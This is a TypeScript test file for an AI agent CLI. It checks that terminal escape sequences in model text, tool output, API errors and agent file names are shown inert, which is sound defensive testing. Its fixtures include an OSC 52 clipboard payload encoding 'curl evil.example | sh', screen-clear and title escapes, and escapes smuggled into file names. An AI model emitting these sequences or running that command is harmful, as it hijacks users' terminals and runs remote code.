/**
 * Terminal control sequences from others (the model's text, a command's
 * output, an API error body, an agent file's name and description) reach the
 * CLI's human output inert: OSC 52 (clipboard), `ESC[2J` (clear screen), OSC 0
 * (window title), a C1 CSI, a carriage return that would overwrite the line,
 * all shown as visible `\xNN`, with newlines and tabs kept. `--json` keeps the
 * exact text, with every control character JSON-escaped (C1 and DEL included,
 * which JSON.stringify leaves raw).
 */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { inert, InertStream, jsonLine } from '../../../src/cli/terminal';
import { ScriptedModelServer, turn } from '../../support/scriptedModelServer';
import { ensureBuilt, runCli } from './cli';

const KEY = 'sk-ant-hardening-escapes-0001';
const ESC = '\x1b';
const BEL = '\x07';
/** Raw control characters a terminal would act on (newline and tab are fine). */
const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

const clipboard = `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}${BEL}`;
const hostile = `Here ${clipboard}is${ESC}[2J${ESC}[H the answer.\r\nNext\tline\rOVERWRITTEN \u009b31mred${ESC}]8;;https://evil.example${ESC}\\link${ESC}]8;;${ESC}\\ \x7f.\n`;

describe('hardening: terminal escapes in the CLI output are inert', function () {
  this.timeout(60_000);
  let server: ScriptedModelServer;
  let project: string;
  let home: string;

  before(ensureBuilt);
  beforeEach(async () => {
    server = await ScriptedModelServer.start({ apiKey: KEY });
    project = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'ea-escapes-')));
    home = path.join(project, '.home');
    fs.mkdirSync(home);
  });
  afterEach(async () => {
    await server.close();
    fs.rmSync(project, { recursive: true, force: true });
  });

  const env = () => ({ ANTHROPIC_API_KEY: KEY, ANTHROPIC_BASE_URL: server.url });

  it('the model’s text, a tool’s summary and output, and an API error: human output shows them inert', async () => {
    server.enqueue(
      // Small chunks: sequences (and the \r\n) are split across deltas.
      turn.message([{ type: 'text', text: hostile }], { chunkSize: 3 }),
      // The Bash tool strips well-formed ANSI sequences from output, not a C1 CSI, a bell or a carriage return.
      turn.toolUse('Bash', { command: `printf 'out\\302\\2332J\\a\\rgone\\n'; exit 3 # ${ESC}]0;title${BEL}` }),
      turn.httpError(400, { message: `bad ${ESC}]52;c;ZXZpbA==${BEL} request` }),
    );
    const first = await runCli(['run', '--no-user', '--cwd', project, 'hi'], env(), home);
    assert.equal(first.code, 0);
    assert.doesNotMatch(first.stdout, RAW);
    assert.equal(
      first.stdout,
      `Here \\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\\x07is\\x1b[2J\\x1b[H the answer.\nNext\tline\\x0dOVERWRITTEN \\x9b31mred\\x1b]8;;https://evil.example\\x1b\\link\\x1b]8;;\\x1b\\ \\x7f.\n`,
    );

    const second = await runCli(['run', '--no-user', '--cwd', project, '--allow-tools', 'Bash', 'run it'], env(), home);
    assert.equal(second.code, 1);
    assert.doesNotMatch(second.stderr, RAW);
    assert.match(second.stderr, /⏺ Bash printf .*; exit 3 # \\x1b\]0;title\\x07\n/);
    assert.match(second.stderr, /⎿ failed: out\\x9b2J\\x07\\x0dgone\n/);
    assert.match(second.stderr, /elixir-agent: The API rejected the request \(400\): invalid_request_error: bad \\x1b\]52;c;ZXZpbA==\\x07 request/);
  });

  it('--json keeps the exact text, with every control character escaped', async () => {
    server.enqueue(turn.message([{ type: 'text', text: hostile }], { chunkSize: 5 }));
    const r = await runCli(['run', '--no-user', '--json', '--cwd', project, 'hi'], env(), home);
    assert.equal(r.code, 0);
    assert.doesNotMatch(r.stdout, RAW);
    const lines = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as { type: string; text?: string });
    assert.equal(lines.at(-1)?.text, hostile);
    assert.equal(lines.filter((l) => l.type === 'textDelta').map((l) => l.text).join(''), hostile);
    assert.match(r.stdout, /\\u009b31m/);
  });

  it('agents check: names, descriptions and file names from the repository are shown inert', async () => {
    const agents = path.join(project, '.claude/agents');
    fs.mkdirSync(agents, { recursive: true });
    fs.writeFileSync(path.join(agents, `evil${ESC}[2J.md`), `---\nname: evil\ndescription: "Clears ${ESC}[2J the screen"\nmodel: sonnet${ESC}]52;c;eA==${BEL}\n---\nBody.\n`);
    fs.writeFileSync(path.join(agents, 'broken.md'), `---\nname: Bad${ESC}[31mName\n---\n`);
    const human = await runCli(['agents', 'check', project, '--no-user'], {}, home);
    assert.equal(human.code, 1);
    assert.doesNotMatch(human.stdout + human.stderr, RAW);
    // YAML refuses the raw escapes, so these files are reported as broken, by name.
    assert.match(human.stdout, /evil\\x1b\[2J\.md:\d+:\d+: error: /);
    const json = await runCli(['agents', 'check', project, '--no-user', '--json'], {}, home);
    assert.doesNotMatch(json.stdout, RAW);
    const parsed = JSON.parse(json.stdout) as { problems: Array<{ filePath: string }> };
    assert.ok(parsed.problems.some((p) => p.filePath.endsWith(`evil${ESC}[2J.md`)), 'JSON keeps the exact file name');
  });

  it('inert(): C0, DEL and C1 shown as \\xNN, newlines and tabs kept, \\r\\n joined even across pieces', () => {
    assert.equal(inert(`a${ESC}[2Jb\tc\nd\r\ne\rf\u0085g\x00`), 'a\\x1b[2Jb\tc\nd\ne\\x0df\\x85g\\x00');
    const out: string[] = [];
    const s = new InertStream((x) => out.push(x));
    for (const piece of ['one\r', '\ntwo', `${ESC}`, '[2J\r']) s.push(piece);
    s.flush();
    assert.equal(out.join(''), 'one\ntwo\\x1b[2J\\x0d');
    assert.equal(jsonLine({ t: `\u009b\x7f${ESC}` }), '{"t":"\\u009b\\u007f\\u001b"}\n');
    assert.deepStrictEqual(JSON.parse(jsonLine({ t: `\u009b\x7f${ESC}` })), { t: `\u009b\x7f${ESC}` });
  });
});
